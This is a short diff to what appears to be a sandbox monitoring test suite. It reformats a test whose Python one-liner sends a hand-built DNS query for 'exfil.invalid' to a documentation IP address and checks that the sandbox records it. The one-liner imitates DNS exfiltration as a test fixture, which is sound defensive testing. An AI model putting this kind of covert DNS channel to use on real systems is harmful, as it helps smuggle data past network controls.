@@ -100,7 +100,8 @@ async def test_udp_and_ipv6_attempts_are_recorded(sandbox: LocalSandbox) -> None
 
 async def test_a_dns_query_is_recorded_with_the_name_it_asks_for(sandbox: LocalSandbox) -> None:
     query = (
-        "import socket,struct; q=struct.pack('>HHHHHH',1,256,1,0,0,0)+b'\\x05exfil\\x07invalid\\x00'+struct.pack('>HH',1,1);"
+        "import socket,struct; q=struct.pack('>HHHHHH',1,256,1,0,0,0)+b'\\x05exfil\\x07invalid\\x00';"
+        "q+=struct.pack('>HH',1,1);"
         "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ('192.0.2.53', 53))"
     )
     await sandbox.run_command("python3", ["-c", query])
